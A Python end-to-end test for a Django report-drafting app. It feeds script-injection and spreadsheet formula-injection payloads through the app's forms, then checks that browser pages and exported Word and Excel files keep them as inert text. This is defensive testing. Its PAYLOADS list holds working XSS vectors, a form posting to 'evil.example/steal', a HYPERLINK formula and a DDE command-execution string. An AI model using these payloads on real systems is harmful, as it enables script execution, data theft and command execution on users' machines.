"""Script injection: payloads typed into every box a user writes in (section editor, appendix grid
notes and cells, document details, comments, return reasons and answers) go in through the real
views; then the pages that show them are opened in Chromium (no script runs, no dialog opens, no
overlay covers the site's own menu) and the Word and Excel files are read back (no field, no link,
no formula comes from what a user typed)."""

import io
import re
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from exports.docx import build_report_docx
from exports.xlsx import build_consolidated_xlsx, build_report_xlsx
from indicators.forms import cell_name
from outline.models import OutlineNode, Report, ReturnItem
from tests.conftest import build_world
from tests.e2e.test_review_loop import log_in
from tests.indicators.factories import make_catalogue

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

PAYLOADS = [
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned = 2">',
    "<svg onload=window.__pwned=3>",
    '<a href="javascript:window.__pwned=4">bấm vào đây</a>',
    '"><script>window.__pwned = 5</script>',
    '<iframe src="javascript:parent.__pwned=6"></iframe>',
    '<form action="https://evil.example/steal"><input name=p></form>',
    "<style>nav, .navbar { display: none !important }</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red">che</div>',
    "<details open ontoggle=window.__pwned=7>",
    "{{ 7*7 }} {% csrf_token %}",
    '=HYPERLINK("https://evil.example","bấm")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-1+1",
    "@SUM(A1)",
]
TEXT = " ".join(PAYLOADS)
FORMULA_LIKE = [p for p in PAYLOADS if p[0] in "=+-@"]


def _writes(world, cat):
    """Every payload through the views, as the drafter and the reviewer would send them."""
    report = world.report_a
    drafter, reviewer = Client(), Client()
    drafter.force_login(world.drafter_a)
    reviewer.force_login(world.reviewer)
    nodes = OutlineNode.objects.filter(version=report.round.outline_version, is_writable=True).order_by("position")
    for node in nodes:
        response = drafter.post(
            reverse("outline:section_edit", args=[report.pk, node.key]),
            {"content": f"<p>{TEXT}</p>" + "".join(PAYLOADS), "version": 0, "is_done": "on"},
        )
        assert response.status_code == 302
    grid = {"version": 0}
    for indicator in cat.values():
        grid[f"note-{indicator.pk}"] = TEXT[:1900]
        grid[f"expl-{indicator.pk}"] = FORMULA_LIKE[indicator.pk % len(FORMULA_LIKE)]
    grid[cell_name(cat["DV"].pk, "2020")] = "=1+1"
    grid[cell_name(cat["DV"].pk, "2019")] = "950"
    assert drafter.post(reverse("indicators:appendix_edit", args=[report.pk]), grid).status_code in (200, 302)
    response = drafter.post(
        reverse("outline:document_info", args=[report.pk]),
        {
            "doc_number": "=cmd|' /C calc'!A0",
            "place": "<script>window.__pwned=8</script>",
            "signer_name": '"><img src=x onerror=window.__pwned=9>',
            "signer_title": "CHỦ TỊCH",
            "recipients": "\n".join(PAYLOADS[:6]),
        },
    )
    assert response.status_code == 302
    assert drafter.post(reverse("outline:report_submit", args=[report.pk])).status_code == 302
    for payload in PAYLOADS:
        reviewer.post(
            reverse("outline:comment_post", args=[report.pk]),
            {"anchor": f"section:{nodes[0].key}", "body": payload, "visibility": "unit"},
        )
    response = reviewer.post(
        reverse("outline:report_return", args=[report.pk]),
        {"note": TEXT, f"tick_{nodes[0].key}": "on", f"reason_{nodes[0].key}": TEXT},
    )
    assert response.status_code == 302
    item = ReturnItem.objects.get(request__report=report)
    drafter.post(reverse("outline:return_answer", args=[report.pk, item.pk]), {"answer": TEXT[:4000]})
    return Report.objects.select_related("round", "unit", "unit__parent").get(pk=report.pk)


def _check_page(page, url):
    page.goto(url)
    page.wait_for_load_state("load")
    page.wait_for_timeout(300)  # an onerror or onload would have fired by now
    assert page.evaluate("window.__pwned") is None, url
    assert page.evaluate("parent.__pwned") is None, url
    main = page.locator("#main")
    # Nothing from a user became markup: no frame, form, style or element with an event handler.
    assert main.locator("iframe, frame, object, embed, style, form[action*='evil'], [onerror], [onload]").count() == 0
    assert main.locator("a[href^='javascript']").count() == 0
    # The site's own menu is still there, visible and on top: no overlay took the screen.
    navbar = page.locator("nav.navbar")
    assert navbar.is_visible(), url
    box = navbar.bounding_box()
    on_top = page.evaluate(
        "([x, y]) => !!document.elementFromPoint(x, y).closest('nav.navbar')",
        [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
    )
    assert on_top, url
    return page.content()


def test_payloads_stay_text_in_the_browser_and_in_the_files(live_server, page):
    world = build_world(sections=2)
    cat = make_catalogue(world.round.outline_version)
    report = _writes(world, cat)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    log_in(page, live_server, world.drafter_a)
    key = OutlineNode.objects.filter(version=report.round.outline_version, is_writable=True).order_by("position")[0].key
    for url in (
        reverse("outline:report_detail", args=[report.pk]),
        reverse("outline:section_edit", args=[report.pk, key]),
        reverse("indicators:appendix_edit", args=[report.pk]),
        reverse("outline:report_read", args=[report.pk]),
        reverse("outline:report_history", args=[report.pk]),
        reverse("outline:submission_detail", args=[report.pk, 1]),
        reverse("outline:document_info", args=[report.pk]),
    ):
        html = _check_page(page, live_server.url + url)
    # The payload is shown as the text that was typed (escaped), not dropped silently everywhere.
    assert "{{ 7*7 }}" in html or "=cmd|" in html

    log_in(page, live_server, world.reviewer)
    for url in (
        reverse("outline:report_read", args=[report.pk]),
        reverse("outline:dashboard", args=[report.round.code]),
        reverse("outline:report_diff", args=[report.pk]),
        reverse("indicators:rollup", args=[report.round.code, world.superior.code]),
    ):
        html = _check_page(page, live_server.url + url)
    assert not dialogs
    assert "{{ 7*7 }}" not in html or "49" not in html  # no template ran the text

    # Word: no field code, hyperlink or external part can come from user text; the text is literal.
    data = build_report_docx(report)
    with zipfile.ZipFile(io.BytesIO(data)) as docx:
        names = docx.namelist()
        xml = "".join(docx.read(n).decode() for n in names if n.endswith(".xml") or n.endswith(".rels"))
    assert not any(re.search(r"vbaProject|activeX|oleObject|embeddings", n, re.I) for n in names)
    # The only field is the site's own page number in the header.
    fields = set(re.findall(r'w:instr="([^"]*)"', xml)) | set(re.findall(r"<w:instrText[^>]*>([^<]*)<", xml))
    assert {f.strip() for f in fields} <= {"PAGE"}, fields
    assert "<w:hyperlink" not in xml
    assert 'TargetMode="External"' not in xml
    assert "=cmd|&apos; /C calc&apos;!A0" in xml or "=cmd|' /C calc'!A0" in xml
    assert "<script" not in xml.lower()

    # Excel: every cell holding typed text is a string; no formula mentions what a user typed.
    own = Report.objects.select_related("round", "unit").get(round=report.round, unit=world.superior)
    dashboard = Client()
    dashboard.force_login(world.reviewer)
    board = dashboard.get(reverse("outline:dashboard", args=[report.round.code]) + "?format=xlsx").content
    for data in (build_report_xlsx(report), build_consolidated_xlsx(own), board):
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formula = str(cell.value)
                        assert not re.search(r"cmd|calc|HYPERLINK|evil|@SUM|SUM\(1,1\)", formula, re.I), formula
                    elif isinstance(cell.value, str) and any(p in cell.value for p in FORMULA_LIKE):
                        assert cell.data_type == "s"
        with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
            assert not any(re.search(r"vbaProject|externalLink", n, re.I) for n in xlsx.namelist())
